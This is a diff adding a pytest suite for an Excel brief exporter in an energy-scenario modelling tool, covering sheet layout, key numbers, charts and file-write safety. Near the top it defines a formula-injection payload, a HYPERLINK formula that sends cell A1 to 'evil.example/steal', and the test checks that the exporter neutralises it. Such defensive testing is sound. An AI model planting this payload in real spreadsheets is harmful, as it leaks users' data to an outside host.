@@ -1,0 +1,196 @@
+"""The Excel brief, read back as a reader (and a hostile reviewer) would meet it."""
+import math
+import os
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+import workbench.io.atomic as atomic
+from workbench.core.errors import ExportError
+from workbench.core.project import Scenario, resolve
+from workbench.io.excel import KEY_NUMBERS, write_brief
+from workbench.io.excel_cells import CUT_MARK, EXCEL_TEXT_LIMIT, put
+from workbench.models.evaluate import evaluate
+
+SHEETS = ["Cover", "Key numbers", "What changed", "Assumptions", "Tariffs", "Grid", "Charts", "Sources"]
+HOSTILE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full data")'
+
+
+@pytest.fixture(scope="module")
+def brief(example_session, tmp_path_factory):
+    project = example_session.project.with_scenario(
+        Scenario("Hostile note", "Government proposal", {"pkr_per_usd": 300.0},
+                 notes=HOSTILE + "\x07 bell and \x1b escape"))
+    project = project.with_scenario(Scenario("@SUM(1+1)", "No allocation", {}))
+    names = ["No allocation", "Government proposal", "Stress", "Hostile note", "@SUM(1+1)"]
+    results = [evaluate(resolve(project, n, example_session.catalogue), example_session.dataset) for n in names]
+    path = tmp_path_factory.mktemp("brief") / "brief.xlsx"
+    write_brief(str(path), project, example_session.catalogue, example_session.dataset, results)
+    return load_workbook(path), results, path
+
+
+def test_every_sheet_is_present_in_order(brief):
+    wb, _, _ = brief
+    assert wb.sheetnames == SHEETS
+
+
+def test_key_numbers_equal_the_engine_and_are_numbers(brief):
+    wb, results, _ = brief
+    ws = wb["Key numbers"]
+    header = [c.value for c in ws[4]]
+    rows = {ws.cell(row=r, column=1).value: r for r in range(5, 5 + len(KEY_NUMBERS))}
+    for h in KEY_NUMBERS:
+        r = rows[h.label]
+        assert ws.cell(row=r, column=2).value == h.unit
+        for j, result in enumerate(results):
+            col = header.index(result.name) + 1
+            cell = ws.cell(row=r, column=col)
+            if h.key in result.key_results:
+                assert cell.data_type == "n", (h.key, result.name)
+                assert cell.value == pytest.approx(result.key_results[h.key], rel=1e-12, abs=1e-12)
+                assert "#,##0" in cell.number_format
+            else:  # no new loads: the measure does not exist, said explicitly
+                assert cell.value == "n/a"
+    # Red lines: the stress case's negative contribution is marked FAIL next to its number.
+    stress_col = header.index("Stress") + 1
+    contribution = rows["New loads' contribution to fixed cost"]
+    assert ws.cell(row=contribution, column=stress_col).value < 0
+    assert ws.cell(row=contribution, column=stress_col + 1).value == "FAIL"
+    gov_col = header.index("Government proposal") + 1
+    assert ws.cell(row=contribution, column=gov_col + 1).value == "pass"
+
+
+def test_defined_name_covers_the_key_number_table(brief):
+    wb, results, _ = brief
+    name = wb.defined_names["KeyNumbers"]
+    (sheet, ref), = list(name.destinations)
+    assert sheet == "Key numbers"
+    last_col = chr(ord("A") + 1 + 2 * len(results))
+    assert ref == f"$A$4:${last_col}${4 + len(KEY_NUMBERS)}"
+
+
+def test_user_text_is_never_a_formula(brief):
+    wb, _, _ = brief
+    found = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "@", "+", "-")):
+                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
+                    found += 1
+                    assert cell.data_type == "s" and cell.quotePrefix
+                    assert "\x07" not in cell.value and "\x1b" not in cell.value  # control characters removed
+    assert found >= 1  # the hostile note reached the Cover as inert text
+
+
+def test_charts_are_native_and_reference_the_right_ranges(brief):
+    wb, results, _ = brief
+    charts = wb["Charts"]._charts
+    assert len(charts) == 3
+    generation, drivers, headroom = charts
+    refs = [s.val.numRef.f for s in generation.series]
+    assert len(refs) == 11 and all(r.startswith("'Grid'!$") for r in refs)
+    grid = wb["Grid"]
+    # The generation chart's first series is the hydro column of the focus scenario's monthly block.
+    col = refs[0].split("!")[1].replace("$", "").split(":")[0][0]
+    header_row = int(refs[0].split("$")[2].split(":")[0]) - 1
+    assert grid[f"{col}{header_row}"].value == "Hydro"
+    assert grid[f"A{header_row + 1}"].value == "Jul" and grid[f"A{header_row + 12}"].value == "Jun"
+    assert all(grid[f"{col}{r}"].data_type == "n" for r in range(header_row + 1, header_row + 13))
+    # Drivers chart: one series per scenario with new loads, over the driver table on the Charts sheet.
+    with_loads = [r for r in results if r.key_results.get("large_load_requested_gwh", 0) > 0]
+    assert len(drivers.series) == len(with_loads)
+    assert all(s.val.numRef.f.startswith("'Charts'!$") for s in drivers.series)
+    assert [s.val.numRef.f for s in headroom.series] == ["'Charts'!$B$49:$B$60", "'Charts'!$C$49:$C$60"]
+    ws = wb["Charts"]
+    assert ws["B48"].value == "Without the new loads" and ws["A49"].value == "Jul"
+
+
+def test_panes_print_setup_and_formats(brief):
+    wb, _, _ = brief
+    for ws in wb.worksheets:
+        assert ws.page_setup.orientation == "landscape", ws.title
+        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
+        assert ws.print_title_rows, ws.title
+    assert wb["Key numbers"].freeze_panes == "C5"
+    assert wb["Assumptions"].freeze_panes == "D5"
+    tariffs = wb["Tariffs"]
+    assert tariffs["C5"].number_format == "#,##0.00;-#,##0.00" and tariffs["C5"].data_type == "n"
+
+
+def test_assumptions_show_every_parameter_with_source_and_origin(brief, example_session):
+    wb, results, _ = brief
+    ws = wb["Assumptions"]
+    labels = [ws.cell(row=r, column=2).value for r in range(5, 5 + len(list(example_session.catalogue)))]
+    assert labels == [p.label for p in example_session.catalogue]
+    header = [c.value for c in ws[4]]
+    stress = header.index("Stress") + 1
+    row = 5 + labels.index("Exchange rate")
+    assert ws.cell(row=row, column=stress).value == 330.0 and ws.cell(row=row, column=stress).font.b
+    assert ws.cell(row=row, column=stress + 1).value == "Stress"
+    gov = header.index("Government proposal") + 1
+    assert ws.cell(row=row, column=gov + 1).value == "default"
+    assert "Pakbanker" in ws.cell(row=row, column=header.index("Source of the default") + 1).value
+
+
+def test_what_changed_lists_overrides_against_the_parent(brief):
+    wb, _, _ = brief
+    ws = wb["What changed"]
+    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5, values_only=False)]
+    stress = [r for r in rows if r[0] == "Stress"]
+    assert {r[2] for r in stress} == {"Exchange rate", "RLNG price", "Hydrology (1 = FY2025)",
+                                      "Suppressed summer demand"}
+    fx = next(r for r in stress if r[2] == "Exchange rate")
+    assert (fx[4], fx[5]) == (280.0, 330.0)
+
+
+def test_sources_sheet_cites_every_source(brief, example_session):
+    wb, _, _ = brief
+    ws = wb["Sources"]
+    ids = {ws.cell(row=r, column=1).value for r in range(5, ws.max_row + 1)}
+    assert set(example_session.dataset.sources) <= ids
+
+
+def test_nan_is_refused_with_the_value_named_or_written_as_na_by_design():
+    ws = Workbook().active
+    with pytest.raises(ExportError, match="Stress: uniform tariff.*nan"):
+        put(ws["A1"], math.nan, where="Stress: uniform tariff")
+    with pytest.raises(ExportError, match="inf"):
+        put(ws["A1"], math.inf)
+    assert put(ws["A2"], math.nan, missing_ok=True).value == "n/a"
+
+
+def test_overlong_text_is_cut_with_a_visible_marker():
+    ws = Workbook().active
+    cell = put(ws["A1"], "x" * 40_000)
+    assert len(cell.value) == EXCEL_TEXT_LIMIT and cell.value.endswith(CUT_MARK)
+
+
+def test_locked_target_gives_a_clear_message_and_keeps_the_old_file(brief, example_session, tmp_path,
+                                                                    monkeypatch):
+    _, results, _ = brief
+    target = tmp_path / "brief.xlsx"
+    target.write_bytes(b"previous brief")
+    monkeypatch.setattr(atomic, "RETRY_DELAY_S", 0)
+
+    def locked(src, dst):
+        raise PermissionError(13, "locked")
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(ExportError, match="locked by another program.*nothing was written"):
+        write_brief(str(target), example_session.project, example_session.catalogue, example_session.dataset,
+                    results[:2])
+    assert target.read_bytes() == b"previous brief"
+    assert [p.name for p in tmp_path.iterdir()] == ["brief.xlsx"]  # no temporary file left behind
+
+
+def test_cli_writes_the_brief(tmp_path):
+    import subprocess
+    import sys
+    from pathlib import Path
+    root = Path(__file__).resolve().parents[1]
+    out = tmp_path / "brief.xlsx"
+    done = subprocess.run([sys.executable, str(root / "main.py"), "run", str(root / "scenarios/pakistan-2000mw.wbproj"),
+                           "--xlsx", str(out)], capture_output=True, text=True, timeout=120, cwd=root)
+    assert done.returncode == 0, done.stderr
+    assert load_workbook(out).sheetnames == SHEETS
